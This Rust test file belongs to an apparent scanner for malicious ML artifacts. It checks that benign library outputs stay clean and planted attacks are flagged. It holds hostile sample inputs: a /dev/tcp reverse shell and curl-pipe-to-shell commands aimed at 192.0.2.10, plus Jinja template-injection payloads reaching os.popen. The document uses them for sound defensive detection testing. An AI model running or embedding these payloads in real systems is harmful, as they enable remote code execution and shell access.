//! Red-team round 3: ordinary files written by real libraries (tests/data/rt3/, from the red
//! team's run with the library versions in scripts/rt3_reference.py) get nothing above info,
//! and the attack of the same shape as each relaxation stays caught.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "tests and benchmarks fail by panicking"
)]

mod common;

use std::path::{Path, PathBuf};

use serde_json::Value;

fn data(sub: &str) -> PathBuf {
    common::repo().join("tests/data/rt3").join(sub)
}

/// One artifact as the CLI reports it (signature rules included): its verdict and its findings
/// above info as `rule severity message`.
struct Seen {
    verdict: String,
    above_info: Vec<String>,
}

impl Seen {
    fn of(artifact: &Value) -> Seen {
        let above_info = artifact["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["severity"] != "info")
            .map(|f| format!("{} {} {}", f["rule_id"], f["severity"], f["message"]))
            .collect();
        Seen {
            verdict: artifact["verdict"].as_str().unwrap().to_owned(),
            above_info,
        }
    }

    fn has(&self, code: &str) -> bool {
        self.above_info
            .iter()
            .any(|f| f.starts_with(&format!("\"{code}\"")))
    }
}

fn scan(path: &Path) -> Seen {
    let (_, report) = common::scan_json(&[path], &[]);
    Seen::of(&common::artifacts(&report)[0])
}

fn scan_text(dir: &Path, name: &str, text: &str) -> Seen {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    scan(&path)
}

/// fastai `learn.save()` weights, gensim Word2Vec/KeyedVectors/FastText/Dictionary, scipy
/// interp1d, a dill pickle of a scikit-learn pipeline, quantized TorchScript, Python source
/// that introspects `__class__.__mro__` or holds `{%` in a docstring, a Colab notebook with
/// an installer line, a project's Hydra config, tarballs with links inside them, a README with
/// f-string brace escapes.
#[test]
fn ordinary_files_are_clean() {
    let files = common::files_in(&data("benign"));
    let paths: Vec<&Path> = files.iter().map(PathBuf::as_path).collect();
    let (_, report) = common::scan_json(&paths, &[]);
    let artifacts = common::artifacts(&report);
    for artifact in artifacts {
        let seen = Seen::of(artifact);
        assert_eq!(
            seen.verdict, "clean",
            "{}: {:?}",
            artifact["path"], seen.above_info
        );
        assert!(seen.above_info.is_empty(), "{}", artifact["path"]);
    }
    assert!(artifacts.len() >= 17, "{}", artifacts.len());
}

/// fastai's `learn.export()` pickles the whole Learner (model class, data pipeline, callbacks):
/// its fastai classes stay on neither list (PKL002, suspicious), but the method reference
/// `getattr(FilteredBase, 'dataloaders')` and the pickled `inspect.Signature` are data, not
/// PKL001.
#[test]
fn code_bearing_objects_are_suspicious_not_malicious() {
    let export = scan(&data("suspicious/export.pkl"));
    assert_eq!(export.verdict, "suspicious", "{:?}", export.above_info);
    for f in &export.above_info {
        assert!(f.starts_with("\"PKL002\" \"medium\""), "{f}");
    }
}

/// A scipy.stats distribution's `__setstate__` runs `exec(self._parse_arg_template)` on the
/// string its pickled state carries. scipy's own template (tests/data/scipy-stats/, written by
/// scripts/scipy_stats_reference.py: frozen and unfrozen, continuous and discrete, histogram,
/// `rv_sample`, pickle and joblib) is clean; other source is PKL011 naming the exec.
#[test]
fn scipy_distributions_are_judged_by_the_source_they_execute() {
    let files = common::files_in(&common::repo().join("tests/data/scipy-stats"));
    assert!(files.len() >= 13, "{}", files.len());
    let frozen = data("benign/frozen_norm.joblib");
    let mut paths: Vec<&Path> = files.iter().map(PathBuf::as_path).collect();
    paths.push(&frozen);
    let (_, report) = common::scan_json(&paths, &[]);
    for artifact in common::artifacts(&report) {
        let seen = Seen::of(artifact);
        assert_eq!(
            seen.verdict, "clean",
            "{}: {:?}",
            artifact["path"], seen.above_info
        );
    }
    let planted = scan(&common::repo().join("samples/malicious/scipy_frozen_norm_exec.pkl"));
    assert_eq!(planted.verdict, "malicious", "{:?}", planted.above_info);
    assert!(
        planted
            .above_info
            .iter()
            .any(|f| f.starts_with("\"PKL011\"")
                && f.contains("exec(self._parse_arg_template)")
                && f.contains("os.system('echo quarantine-sample')")),
        "{:?}",
        planted.above_info
    );
}

/// Jinja rules judge templates only: a Python file is not one, but a file named as a template
/// is rendered whatever else it looks like, and a chat template field always is.
#[test]
fn templates_stay_judged_where_loaders_render_them() {
    let dir = tempfile::tempdir().unwrap();
    let polyglot = "import os\nx = \"\"\"{{ ''.__class__.__mro__[1].__subclasses__() }}\"\"\"\n";
    let report = scan_text(dir.path(), "chat_template.jinja", polyglot);
    assert_eq!(report.verdict, "malicious", "{:?}", report.above_info);
    assert!(report.has("YAR:template_injection.jinja_class_traversal"));
    let config = r#"{"chat_template": "{% for m in messages %}{{ m.content }}{% endfor %}{{ cycler.__init__.__globals__.os.popen('echo quarantine-sample').read() }}"}"#;
    let report = scan_text(dir.path(), "tokenizer_config.json", config);
    assert_eq!(report.verdict, "malicious", "{:?}", report.above_info);
    // The same traversal in Python source is introspection.
    let report = scan_text(
        dir.path(),
        "builder.py",
        "class B:\n    def parent(self):\n        return self.__class__.__mro__[1]\n",
    );
    assert!(report.above_info.is_empty(), "{:?}", report.above_info);
    // A template file that does not parse is still reported (TPL002); a `.py` with `{%` is not.
    let report = scan_text(
        dir.path(),
        "chat_template.jinja",
        "{% for message in messages %}{{ message['content'] }}{% endfr %}",
    );
    assert!(report.has("TPL002"), "{:?}", report.above_info);
    let report = scan_text(
        dir.path(),
        "tokenization_x.py",
        "import re\n\ndef f(eos_token, messages):\n    \"\"\"Tokens are `<extra_id_{%d}>`.\"\"\"\n    return messages\n",
    );
    assert!(report.above_info.is_empty(), "{:?}", report.above_info);
}

fn notebook(cell: &str) -> String {
    serde_json::json!({
        "nbformat": 4,
        "nbformat_minor": 5,
        "metadata": {},
        "cells": [{"cell_type": "code", "metadata": {}, "execution_count": null,
                   "outputs": [], "source": [cell]}],
    })
    .to_string()
}

/// A notebook's installer line is run by a person, as a README's is; other malware shapes in a
/// notebook, and the same installer line in code a loader or server runs, stay findings.
#[test]
fn notebooks_note_installers_and_code_stays_strict() {
    let dir = tempfile::tempdir().unwrap();
    let install = "!curl -fsSL https://192.0.2.10/install.sh | sh";
    let report = scan_text(dir.path(), "colab.ipynb", &notebook(install));
    assert_eq!(report.verdict, "clean", "{:?}", report.above_info);
    let shell = "!bash -i >& /dev/tcp/192.0.2.10/4444 0>&1";
    let report = scan_text(dir.path(), "colab.ipynb", &notebook(shell));
    assert_eq!(report.verdict, "malicious", "{:?}", report.above_info);
    let handler = "import os\n\ndef handle(data, context):\n    os.system('curl -fsSL https://192.0.2.10/x.sh | sh')\n    return data\n";
    let report = scan_text(dir.path(), "handler.py", handler);
    assert_eq!(report.verdict, "malicious", "{:?}", report.above_info);
    assert!(report.has("YAR:download_exec.curl_pipe_shell"));
    // Shaped like a notebook but not JSON (a Python dict next to a call): judged as code.
    let fake = "{\"nbformat\": 4, \"cells\": []}\nimport os\nos.system('curl -fsSL https://192.0.2.10/x.sh | sh')\n";
    let report = scan_text(dir.path(), "fake.ipynb", fake);
    assert!(
        report.has("YAR:download_exec.curl_pipe_shell"),
        "{:?}",
        report.above_info
    );
}
